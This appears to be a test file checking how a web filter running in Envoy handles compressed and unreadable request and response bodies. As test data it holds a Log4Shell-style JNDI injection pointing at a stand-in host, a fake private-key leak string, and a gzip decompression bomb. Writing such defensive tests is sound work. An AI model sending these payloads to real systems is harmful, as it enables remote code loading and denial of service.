// Bodies in content codings that the filter does not read, or that grow without bound, through a real Envoy: what the configuration says
// is done, and said.
import assert from "node:assert/strict";
import { randomUUID } from "node:crypto";
import { after, before, describe, test } from "node:test";
import zlib from "node:zlib";
import { perform } from "./open-exchange.ts";
import { ProtectedApi, withTrailers } from "./protected-api.ts";

const ATTACK = '{"name":"${jndi:ldap://evil.example/a}"}';
const LEAK = '{"key":"-----BEGIN RSA PRIVATE KEY-----"}';
const JSON_TYPE = { "content-type": "application/json" };

const CONFIGURATION = JSON.stringify({
  ...{ mode: "block", hold_headers: true, block_rules: ["wg-resp-004"], response_body: "BUFFERED" },
  routes: [
    { match: { path_prefix: "/reject/" }, encodings: { unreadable: "reject" } },
    { match: { path_prefix: "/ask/" }, encodings: { ask_upstream: true } },
  ],
});

describe("content codings, Envoy 1.40.0", () => {
  let api: ProtectedApi;
  before(async () => {
    api = await ProtectedApi.start({
      ...{ version: "1.40.0", configuration: CONFIGURATION, edit: withTrailers },
    });
  });
  after(async () => {
    await api?.assertHealthy();
    await api?.stop();
  });

  async function exchange(prefix: string, coding: string, body?: Buffer, reply?: Buffer) {
    const id = randomUUID();
    const path = `${prefix}${id}`;
    const coded = { ...JSON_TYPE, "content-encoding": coding };
    if (reply) api.upstream.reply(id, { status: 200, headers: coded, body: reply });
    const response = await perform(api.port, {
      ...{ protocol: "HTTP/1.1", method: body ? "POST" : "GET", path },
      headers: { "x-test-id": id, "accept-encoding": "br, gzip;q=0.8, zstd", ...(body ? coded : {}) },
      ...(body ? { body: [body], length: body.length } : {}),
    });
    const { event } = await api.traffic.of(path);
    return { response, event, request: api.upstream.of(id)[0] };
  }

  for (const coding of ["br", "zstd", "x-own"]) {
    // What is in it cannot be read, so it need not be what it says.
    const body = zlib.brotliCompressSync(ATTACK);

    test(`request in ${coding}, unreadable pass → passes, and the event says that it was not read`, async () => {
      const { response, event, request } = await exchange("/pass/", coding, body);
      assert.equal(response.status, 200);
      assert.ok(request?.body.equals(body));
      assert.deepEqual([event?.action, event?.limits], ["monitor", ["encoding"]]);
    });

    test(`request in ${coding}, unreadable reject → 403, nothing arrives`, async () => {
      const { response, event, request } = await exchange("/reject/", coding, body);
      assert.deepEqual([response.status, request], [403, undefined]);
      assert.deepEqual([event?.action, event?.limits], ["block", ["encoding"]]);
    });

    test(`response in ${coding} → passes or becomes the block page, as configured`, async () => {
      const passed = await exchange("/pass/", coding, undefined, body);
      assert.deepEqual([passed.response.status, passed.event?.limits], [200, ["encoding"]]);
      assert.ok(passed.response.body.equals(body));
      const rejected = await exchange("/reject/", coding, undefined, body);
      assert.deepEqual([rejected.response.status, rejected.event?.action], [403, "block"]);
    });
  }

  test("ask_upstream → the service is asked for what can be read, and a leak in gzip is found", async () => {
    const { response, event, request } = await exchange("/ask/", "gzip", undefined, zlib.gzipSync(LEAK));
    assert.match(request?.headers["accept-encoding"] ?? "", /gzip/);
    assert.doesNotMatch(request?.headers["accept-encoding"] ?? "", /br|zstd/);
    assert.deepEqual([response.status, event?.action, event?.rules], [403, "block", ["wg-resp-004"]]);
  });

  test("codings on top of each other → not undone, as the event says", async () => {
    const { response, event } = await exchange("/pass/", "gzip, gzip", zlib.gzipSync(zlib.gzipSync(ATTACK)));
    assert.deepEqual([response.status, event?.action, event?.limits], [200, "monitor", ["encoding"]]);
  });

  test("16 KB of gzip that become 16 MB → passes, and the event says that not all was read", async () => {
    const bomb = zlib.gzipSync(Buffer.alloc(16 * 1024 * 1024, " "));
    const { response, event, request } = await exchange("/pass/", "gzip", bomb);
    assert.equal(response.status, 200);
    assert.ok(request?.body.equals(bomb));
    assert.deepEqual([event?.action, event?.limits], ["monitor", ["inflate"]]);
  });
});
